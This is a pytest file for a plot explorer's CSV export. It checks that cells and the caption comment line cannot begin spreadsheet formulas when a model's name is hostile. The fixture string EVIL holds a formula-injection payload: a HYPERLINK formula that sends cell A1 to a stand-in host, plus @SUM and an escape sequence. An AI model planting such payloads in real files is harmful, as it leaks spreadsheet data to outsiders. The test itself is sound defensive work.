"""Export plot data as CSV with a stranger's model name: the caption stays one comment line, and
no cell (or comma-split piece of the caption) can start a spreadsheet formula."""

import csv
import dataclasses
import io

import pytest

from explorer.app.present.export import safe_caption, safe_cell
from explorer.core.specs import presets
from explorer.core.state.scenario import Scenario

EVIL = 'Evil\n=HYPERLINK("http://x.example/?"&A1,"click"),@SUM(1),+1,-2\r\x1b[2J'


@pytest.mark.parametrize("text,expected", [("=1+2", "'=1+2"), ("+cmd", "'+cmd"), ("-2+3", "'-2+3"),
                                           ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "' =1"), ("ok", "ok"),
                                           ("a\nb", "a b")])
def test_cells_that_start_a_formula_are_neutralised(text, expected):
    assert safe_cell(text) == expected


def test_caption_is_one_line_without_a_formula_after_any_comma():
    cap = safe_caption(EVIL)
    assert "\n" not in cap and "\r" not in cap and "\x1b" not in cap
    assert all(not piece.strip().startswith(("=", "+", "-", "@")) for piece in cap.split(",")[1:])


def test_exported_csv_with_a_hostile_model_name(make_window, tmp_path):
    model = dataclasses.replace(presets.model("llama-2-13b"), name=EVIL)
    w = make_window(Scenario(model=model, hardware=presets.device("rtx-4090")))
    w.slides.current = "compute"
    out = tmp_path / "d.csv"
    assert w.slides.export_csv(path=str(out))
    text = out.read_text(encoding="utf-8")
    lines = text.splitlines()
    assert lines[0].startswith("# ") and "Evil =HYPERLINK" in lines[0]  # the name is in the one comment line
    rows = list(csv.reader(io.StringIO("\n".join(lines[1:]))))
    assert rows[0][:3] == ["series", "sequence length n [tokens]", "y"]
    assert len(rows) > 10
    for row in rows:
        for cell in row:
            if cell.startswith(("=", "+", "-", "@")):
                float(cell)  # only a plain number may start with a sign
    assert all(line.startswith('"') for line in lines[1:])  # every row starts with a quoted text cell
